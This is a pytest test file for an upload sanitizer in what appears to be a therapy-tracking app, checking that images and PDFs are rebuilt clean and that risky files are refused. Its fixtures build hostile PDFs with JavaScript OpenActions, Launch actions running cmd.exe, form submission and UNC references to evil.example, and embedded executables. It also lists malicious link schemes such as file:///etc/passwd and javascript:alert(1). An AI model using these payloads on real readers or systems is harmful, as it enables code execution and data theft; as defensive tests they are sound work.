"""What is kept of a file is decided by reading it: what could act, hide or hurt is refused with a sentence."""

import struct
import zlib
from io import BytesIO
from typing import Any

import pikepdf
import pytest
from PIL import Image, PngImagePlugin

from therapytrack.services import file_reading
from therapytrack.services.file_reading import (
    ACTIVE,
    DAMAGED,
    EMPTY,
    LOCKED,
    NOT_TAKEN,
    TOO_COMPLEX,
    TOO_MANY_PIXELS,
    read_file,
)


def picture(form: str, mode: str = "RGB", size: tuple[int, int] = (8, 6), **saved: object) -> bytes:
    out = BytesIO()
    Image.new(mode, size, 1).save(out, form, **saved)
    return out.getvalue()


def pdf(change: object = None, **saved: object) -> bytes:
    out = BytesIO()
    with pikepdf.new() as made:
        made.add_blank_page()
        if callable(change):
            change(made)
        made.save(out, **saved)  # type: ignore[arg-type]
    return out.getvalue()


def action(kind: str, **more: Any) -> pikepdf.Dictionary:
    return pikepdf.Dictionary(S=pikepdf.Name(f"/{kind}"), **more)


def opens_with(made: pikepdf.Pdf) -> None:
    made.Root.OpenAction = action("JavaScript", JS="app.alert(1)")


def page_acts(made: pikepdf.Pdf) -> None:
    made.pages[0].AA = pikepdf.Dictionary(O=action("Launch", F="cmd.exe"))


def link_launches(made: pikepdf.Pdf) -> None:
    link = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, A=action("Launch", F="cmd.exe"))
    made.pages[0].Annots = made.make_indirect(pikepdf.Array([made.make_indirect(link)]))


def form_of_xfa(made: pikepdf.Pdf) -> None:
    made.Root.AcroForm = pikepdf.Dictionary(XFA=made.make_stream(b"<xdp/>"), Fields=pikepdf.Array())


def form_submits(made: pikepdf.Pdf) -> None:
    made.pages[0].Annots = pikepdf.Array([pikepdf.Dictionary(A=action("SubmitForm", F="https://evil.example"))])


def holds_a_file(made: pikepdf.Pdf) -> None:
    made.attachments["more.exe"] = b"MZ"


def elsewhere() -> pikepdf.String:
    return pikepdf.String(r"\\evil.example\share\x")


def opens_another(made: pikepdf.Pdf) -> None:
    made.Root.OpenAction = action("GoToR", F=elsewhere(), D=pikepdf.Array([0, pikepdf.Name.Fit]))


def opens_one_inside(made: pikepdf.Pdf) -> None:
    made.Root.OpenAction = action("GoToE", F=elsewhere())


def opens_a_site(made: pikepdf.Pdf) -> None:
    made.Root.OpenAction = action("URI", URI="https://evil.example")


def bytes_are_elsewhere(made: pikepdf.Pdf) -> None:
    made.pages[0].Contents = made.make_stream(b"", F=elsewhere())


def form_is_elsewhere(made: pikepdf.Pdf) -> None:
    where = pikepdf.Dictionary(F=pikepdf.Dictionary(F=elsewhere()), Page=0)
    drawn = made.make_stream(b"", Type=pikepdf.Name.XObject, Subtype=pikepdf.Name.Form, Ref=where)
    made.pages[0].Resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(X=drawn))


def shows_a_film(made: pikepdf.Pdf) -> None:
    film = pikepdf.Dictionary(Subtype=pikepdf.Name.Movie, Movie=pikepdf.Dictionary(F=elsewhere()))
    made.pages[0].Annots = pikepdf.Array([film])


def names_a_file(made: pikepdf.Pdf) -> None:
    made.Root.AF = pikepdf.Array([pikepdf.Dictionary(Type=pikepdf.Name.Filespec, F=elsewhere())])


AWAY = (
    opens_another, opens_one_inside, opens_a_site, bytes_are_elsewhere, form_is_elsewhere, shows_a_film, names_a_file,
)  # fmt: skip


def test_a_picture_is_drawn_anew_without_what_was_hidden_in_it() -> None:
    exif = Image.Exif()
    exif[0x010F], exif[0x0112] = "Canary camera", 6
    told = picture("JPEG", exif=exif.tobytes(), comment=b"Canary comment") + b"<script>Canary</script>"
    kept = read_file(told)
    assert kept.media_type == "image/jpeg"
    assert b"Canary" not in kept.data
    with Image.open(BytesIO(kept.data)) as image:
        assert (image.size, dict(image.getexif())) == ((6, 8), {}), "it stands upright"


@pytest.mark.parametrize("mode", ["1", "L", "P", "RGB", "RGBA", "LA", "I;16"])
def test_a_png_of_any_colors_is_kept_without_its_words(mode: str) -> None:
    words = PngImagePlugin.PngInfo()
    words.add_text("Author", "Canary")
    kept = read_file(picture("PNG", mode, pnginfo=words))
    assert (kept.media_type, b"Canary" in kept.data) == ("image/png", False)
    with Image.open(BytesIO(kept.data)) as image:
        assert image.size == (8, 6)


def test_what_is_transparent_stays_so() -> None:
    kept = read_file(picture("PNG", "RGBA"))
    with Image.open(BytesIO(kept.data)) as image:
        assert image.mode == "RGBA"


def huge(width: int, height: int) -> bytes:
    """A small PNG that says it is of this size."""
    whole = bytearray(picture("PNG"))
    whole[16:24] = struct.pack(">II", width, height)
    whole[29:33] = struct.pack(">I", zlib.crc32(whole[12:29]))
    return bytes(whole)


@pytest.mark.parametrize("size", [(8000, 5001), (60_000, 60_000)])
def test_a_picture_of_too_many_pixels_is_refused_before_it_is_drawn(size: tuple[int, int]) -> None:
    assert read_file(huge(*size)).problem == TOO_MANY_PIXELS


@pytest.mark.parametrize("form", ["JPEG", "PNG"])
def test_a_damaged_picture_is_refused(form: str) -> None:
    whole = picture(form, size=(60, 60))
    assert read_file(whole[: len(whole) // 2]).problem == DAMAGED
    assert read_file(whole[:12]).problem == DAMAGED


def test_a_harmless_pdf_is_written_anew() -> None:
    kept = read_file(pdf() + b"\nCanary after the end")
    assert kept.media_type == "application/pdf"
    assert kept.data.startswith(b"%PDF-")
    assert b"Canary" not in kept.data
    with pikepdf.open(BytesIO(kept.data)) as again:
        assert len(again.pages) == 1


@pytest.mark.parametrize(
    "change",
    [opens_with, page_acts, link_launches, form_of_xfa, form_submits, holds_a_file, *AWAY],
    ids=lambda one: one.__name__,
)
@pytest.mark.parametrize("packed", [pikepdf.ObjectStreamMode.disable, pikepdf.ObjectStreamMode.generate])
def test_a_pdf_that_could_act_is_refused(change: object, packed: pikepdf.ObjectStreamMode) -> None:
    assert read_file(pdf(change, object_stream_mode=packed)).problem == ACTIVE


def test_a_link_to_a_page_or_a_site_is_no_act() -> None:
    def links(made: pikepdf.Pdf) -> None:
        made.Root.OpenAction = pikepdf.Array([made.pages[0].obj, pikepdf.Name.Fit])
        link = pikepdf.Dictionary(A=action("URI", URI="https://asha.org"), F=4)
        made.pages[0].Annots = pikepdf.Array([link])
        named_f = pikepdf.Dictionary(F=made.make_indirect(pikepdf.Dictionary(Type=pikepdf.Name.Font)))
        made.pages[0].Resources = pikepdf.Dictionary(Font=named_f)

    assert read_file(pdf(links)).media_type == "application/pdf"


@pytest.mark.parametrize(
    ("link", "taken"),
    [
        ("http://asha.org", True), ("HTTPS://asha.org/a:b", True), ("mailto:ana@school.org", True),
        ("www.asha.org/page", True), ("tel:555", True), ("file:///etc/passwd", False), ("javascript:alert(1)", False),
        (" JavaScript:alert(1)", False), ("smb://evil.example/x", False), (r"\\evil.example\x", False),
        ("//evil.example/x", False), ("ms-word:ofe|u|https://evil.example", False),
    ],
)  # fmt: skip
def test_a_link_leads_to_a_page_a_mailbox_or_a_telephone_alone(link: str, taken: bool) -> None:
    def links(made: pikepdf.Pdf) -> None:
        made.pages[0].Annots = pikepdf.Array([pikepdf.Dictionary(A=action("URI", URI=link))])

    assert (read_file(pdf(links)).problem == "") is taken


def test_a_locked_a_damaged_and_a_boundless_pdf_are_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    for password in ("open", ""):
        assert read_file(pdf(encryption=pikepdf.Encryption(owner="owner", user=password))).problem == LOCKED
    assert read_file(b"%PDF-1.7\nnothing").problem == DAMAGED
    assert read_file(pdf(lambda made: made.pages.__delitem__(0))).problem == DAMAGED

    def deep(made: pikepdf.Pdf) -> None:
        inner = pikepdf.Array()
        for _ in range(file_reading.DEEPEST + 2):
            inner = pikepdf.Array([inner])
        made.Root.More = inner

    assert read_file(pdf(deep)).problem == TOO_COMPLEX
    monkeypatch.setattr(file_reading, "MOST_OBJECTS", 2)
    assert read_file(pdf()).problem == TOO_COMPLEX


def test_text_is_kept_as_it_is() -> None:
    words = "Günther said /s/ 8 of 10 times.\r\n\tGood day. 学校\n".encode()
    assert read_file(b"\xef\xbb\xbf" + words) == file_reading.ReadFile("text/plain", words)


@pytest.mark.parametrize(
    "data",
    [
        b"PK\x03\x04word/document.xml", b"MZ\x90\x00", b"GIF89a\x01\x00", b"RIFF\x00\x00\x00\x00WEBP", b"\xff\xfea\x00",
        b"caf\xe9", b"a\x00b", b"\x1b[2J", b"<html><script>alert(1)</script>", b"  <!DOCTYPE html>",
        b"<svg onload='x'>",
        b"\xef\xbb\xbf<?xml version='1.0'?><svg/>", b"<b>hello</b>\n%PDF-1.7",
    ],
)  # fmt: skip
def test_everything_else_is_refused_with_what_to_do(data: bytes) -> None:
    assert read_file(data).problem == NOT_TAKEN
    assert "save documents of Word or Excel as PDF" in NOT_TAKEN


def test_an_empty_file_is_refused() -> None:
    assert read_file(b"").problem == EMPTY
